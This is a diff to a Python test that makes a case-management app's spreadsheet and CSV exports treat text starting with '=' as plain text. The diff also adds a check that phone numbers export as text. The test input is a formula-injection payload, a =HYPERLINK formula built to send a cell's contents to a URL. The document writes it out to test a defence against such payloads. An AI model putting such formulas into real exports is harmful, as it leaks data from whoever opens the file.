@@ -278,13 +278,14 @@ def test_a_reviewer_sets_a_case_severity_and_the_report_counts_cases_by_severity
 def test_case_text_in_an_export_is_text_never_a_formula(tmp_path):
     """A description (or shop name, note) starting with `=` is written as text: openpyxl would otherwise store it
     as a formula that runs in the Excel of whoever opens the export (=HYPERLINK, =WEBSERVICE sending cells out), and
-    the CSV export wrote it as it was, which Excel and WPS run just the same when a clerk opens the file."""
+    the CSV export wrote it as it was, which Excel and WPS run just the same when a clerk opens the file. A phone number
+    was written to the CSV as bare digits, which Excel opens as 1.38E+10: it is written ="…", text."""
     from datetime import datetime
 
     from pipelines.analytics.export import COLUMNS
 
     app, tokens = make_app(settings_for(tmp_path), resume_jobs=False)
-    stall = CaseMaker(app.state.ctx.store).add("street_stall", G1, datetime(2026, 12, 3, 10, tzinfo=TZ))
+    stall = CaseMaker(app.state.ctx.store).add("street_stall", G1, datetime(2026, 12, 3, 10, tzinfo=TZ), phones=["13800138000"])
     reviewer = auth(tokens["reviewer"])
     text = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"查看 open")'
     with TestClient(app, raise_server_exceptions=False) as client:
@@ -297,3 +298,4 @@ def test_case_text_in_an_export_is_text_never_a_formula(tmp_path):
     assert (cell.value, cell.data_type) == (text, "s")
     [header, row] = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
     assert row[header.index("描述 description")] == "'" + text  # after an apostrophe: text to the spreadsheet
+    assert row[header.index("号码 phones")] == '="13800138000"'  # text to Excel, not 1.38E+10
